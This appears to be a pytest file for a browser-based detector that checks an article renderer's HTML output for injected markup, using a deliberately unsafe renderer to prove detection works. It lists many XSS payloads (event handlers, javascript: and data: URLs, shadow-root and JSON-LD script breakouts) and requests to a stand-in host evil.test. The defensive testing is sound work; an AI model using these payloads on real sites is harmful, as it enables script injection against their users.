"""The trap of `browser/trap.py` catches: a renderer that is made unsafe on purpose lights it up, in every way."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, Final

import attrs
import pytest
from markupsafe import Markup
from playwright.sync_api import Browser

import articlekit as ak
from browser.trap import Document, Trap, hosted, trap
from payloads import OWN, addresses


@pytest.fixture(scope="module", name="trap")
def _trap(chromium: Browser) -> Iterator[Trap]:
    with trap(chromium) as ready:
        yield ready


def careless(node: Any, _render: Any) -> Markup:
    """A rule that passes text on as if it were markup."""
    return Markup("<p>" + ak.plain_text(node) + "</p>")  # noqa: S704  # on purpose


UNSAFE: Final = ak.HTML.with_rule(ak.Paragraph, careless)


def kinds(trap: Trap, article: ak.Article, renderer: ak.HtmlRenderer = UNSAFE) -> set[str]:
    """The kinds of findings in an article's page."""
    return {finding.kind for finding in trap.findings([Document(renderer(article, page=True))])}


CAUGHT: Final = [
    ("script", "<script>__pwned()</script>"),
    ("script", "<script>this is no script</script>"),
    ("script", "<script type=module>__pwned()</script>"),
    ("script", "<p onclick=__pwned()>Click</p>"),
    ("script", "<p onmouseover=__pwned()>Hover</p>"),
    ("script", "<b tabindex=1 onfocus=__pwned()>Focus</b>"),
    ("script", "<a href=javascript:__pwned()>Click</a>"),
    ("script", "<svg><a xlink:href=javascript:__pwned()><text y=9>Click</text></a></svg>"),
    ("script", "<form action=javascript:__pwned()><button>Click</button></form>"),
    ("script", "<object data='data:text/html,<script>__pwned()</script>'></object>"),
    ("script", "<iframe src='data:text/html,<script>__pwned()</script>'></iframe>"),
    ("script", "<div><template shadowrootmode=closed><img src=x onerror=__pwned()></template></div>"),
    ("dialog", "<script>alert(1)</script>"),
    ("dialog", "<img src=x onerror=prompt(1)>"),
    ("window", "<script>open('https://evil.test/')</script>"),
    ("navigation", "<meta http-equiv=refresh content='0;url=https://evil.test/'>"),
    ("request", "<form action=https://evil.test/><button>Click</button></form>"),
    ("navigation", "<script>location = 'https://evil.test/'</script>"),
    ("navigation", "<script>top.location = 'https://evil.test/'</script>"),
    ("request", "<img src=https://evil.test/a.png>"),
    ("request", "<link rel=stylesheet href=https://evil.test/a.css>"),
    ("request", "<style>body{background:url(https://evil.test/a.png)}</style>"),
    ("request", "<p style='background:url(https://evil.test/a.png)'>a</p>"),
    ("request", "<script>new WebSocket('wss://evil.test/')</script>"),
    ("request", "<script>navigator.sendBeacon('https://evil.test/')</script>"),
    ("script element", "<script type=text/plain>a</script>"),
    ("script element", "<noscript><script>__pwned()</script></noscript>"),
    ("handler", "<p onanything=a>a</p>"),
    ("handler", "<template><p onclick=a>a</p></template>"),
    ("handler", "<noscript><p onclick=a>a</p></noscript>"),
    ("handler", "<div><template shadowrootmode=closed><p onclick=a>a</p></template></div>"),
    ("script URL", "<a href='java\tscript:__pwned()'>a</a>"),
    ("script URL", "<a href=&#1;data&colon;text/html,a>a</a>"),
    ("script URL", "<a href=vbscript:a>a</a>"),
    ("script URL", "<button formaction=javascript:a>a</button>"),
    ("script URL", "<svg><set attributeName=href to=javascript:a /></svg>"),
    ("script URL", "<img srcset='a.png 1x, javascript:a 2x'>"),
    ("script URL", "<p data-anything='javascript:a'>a</p>"),
    ("address", "<a href=https://evil.test/>a</a>"),
    ("address", "<img srcset='//evil.test/a.png 2x' src=data:,>"),
    ("address", "<base href=https://evil.test/><a href=b>a</a>"),
    ("element", "<object></object>"),
    ("element", "<svg></svg>"),
    ("element", "<base target=_top>"),
    ("element", "<link rel=preload href=a>"),
    ("element", "<div><template shadowrootmode=open>a</template></div>"),
    ("srcdoc", "<iframe sandbox srcdoc=a></iframe>"),
    ("http-equiv", "<meta http-equiv=Content-Security-Policy content=a>"),
    ("name", "<img name=getElementById>"),
    ("is", "<p is=x-a>a</p>"),
    ("style", "<style>p{color:red}</style>"),
    ("style", "<p style='behavior:a'>a</p>"),
    ("opener", "<a target=_blank href=#a>a</a>"),
    ("frame", "<iframe src=a></iframe>"),
    ("outline", "</main><p>a</p>"),
    ("outline", "<!-- "),
    ("element", "<plaintext>"),
]
"""Markup that must not be, and the kind of what is to be found in it."""


@pytest.mark.parametrize(("kind", "markup"), CAUGHT)
def test_catches(trap: Trap, kind: str, markup: str) -> None:
    """What a careless rule lets through is found, as what it is."""
    assert kind in kinds(trap, ak.Article("A", [markup]))


@pytest.mark.parametrize("markup", [markup for _, markup in CAUGHT])
def test_finds_nothing_in_the_same_text(trap: Trap, markup: str) -> None:
    """The same text by built-in rules is text; so it is the renderer, and not the trap, that makes the difference."""
    assert kinds(trap, ak.Article("A", [markup]), ak.HTML) == set()


def test_catches_an_address_that_got_past_the_model(trap: Trap) -> None:
    """Without the check of addresses a link runs its script, and a picture asks for what it should not."""
    link, image = ak.Link("Click", "https://example.org/"), ak.Image("/a.jpg", alt="")
    object.__setattr__(link, "url", "javascript:__pwned()")
    object.__setattr__(image, "src", "data:text/html,a")
    assert kinds(trap, ak.Article("A", [ak.Paragraph(link)]), ak.HTML) == {"navigation", "script", "script URL"}
    assert "script URL" in kinds(trap, ak.Article("A", [ak.Figure(image)]), ak.HTML)


def test_catches_raw_html_that_is_trusted(trap: Trap) -> None:
    """Raw HTML is as unsafe as it is, where a site trusts it."""
    article = ak.Article("A", [ak.RawHtml("<img src=x onerror=__pwned()>")])
    assert kinds(trap, article, ak.HTML.with_options(raw_html="trusted")) >= {"script", "handler"}
    assert kinds(trap, article, ak.HTML) == set()


def test_catches_metadata_that_close_their_script(trap: Trap) -> None:
    """JSON-LD that is written without care ends where a value says."""
    page = str(ak.HTML(ak.Article("</script><script>__pwned()</script>"), page=True))
    unsafe = page.replace("\\u003c", "<").replace("\\u003e", ">")
    assert unsafe != page
    assert "script" in {finding.kind for finding in trap.findings([Document(unsafe)])}


def test_catches_in_each_output(trap: Trap) -> None:
    """A fragment, an AMP page and a text are looked at as a page is."""
    article = ak.Article("A", ["<script>__pwned()</script>"], canonical_url="https://example.org/")
    amp = str(ak.AMP.with_rule(ak.Paragraph, careless)(article))
    text = ak.render_text(article)
    for document in (
        hosted([UNSAFE(article)]),
        Document(amp, "amp", addresses(article)),
        Document(f"<!doctype html><main><pre>{text}</pre></main>"),
    ):
        assert "script" in {finding.kind for finding in trap.findings([document])}
    assert trap.findings([Document(text, "text")]) == []


@pytest.mark.parametrize(
    "script",
    [
        "<script src=https://cdn.ampproject.org/v0.js></script>",
        "<script async src=https://evil.test/v0.js></script>",
        "<script async src=https://cdn.ampproject.org/v0/../a.js></script>",
        "<script async src=https://cdn.ampproject.org.evil.test/v0.js></script>",
        "<script async src=https://cdn.ampproject.org/v0.js>__pwned()</script>",
    ],
)
def test_amp_has_scripts_of_its_own_alone(trap: Trap, script: str) -> None:
    """The runtime of AMP is let in, as AMP asks for it, and nothing that looks like it."""
    page = str(ak.AMP(ak.Article("A", ["b"], canonical_url="https://example.org/")))
    addresses = frozenset({"https://example.org/"})
    assert trap.findings([Document(page, "amp", addresses)]) == []
    armed = page.replace("</article>", f"{script}</article>")
    assert "script element" in {finding.kind for finding in trap.findings([Document(armed, "amp", addresses)])}
    assert "script element" in {finding.kind for finding in trap.findings([Document(page, "html", addresses)])}


def test_names_what_is_active(trap: Trap) -> None:
    """Of many documents that are loaded at once, a finding names the one."""
    pages = [Document(UNSAFE(ak.Article("A", [f"{number}"]), page=True), name=f"{number}") for number in range(40)]
    armed = UNSAFE(ak.Article("A", ["<p onclick=a>31</p>"]), page=True)
    pages[31] = attrs.evolve(pages[31], source=armed)
    assert {finding.document for finding in trap.findings(pages)} == {"31"}


def test_a_blind_trap_is_an_error(trap: Trap, monkeypatch: pytest.MonkeyPatch) -> None:
    """A trap that would find nothing whatever is loaded does not start."""
    monkeypatch.setattr(trap, "findings", lambda _documents: [])
    with pytest.raises(AssertionError, match="blind"):
        trap.prove()


def test_payloads_are_armed(trap: Trap, count: Any) -> None:
    """Every payload of markup is found where nothing is escaped: none of them is a blank."""
    armed = [payload for payload in OWN if payload.runs]
    pages = [Document(str(UNSAFE(ak.Article("A", [each.text]), page=True)), name=each.name) for each in armed]
    lit = {finding.document for finding in trap.findings(pages)}
    assert [(each.name, each.text) for each in armed if each.name not in lit] == []
    count("payloads that light the trap where nothing is escaped", len(lit - {""}))
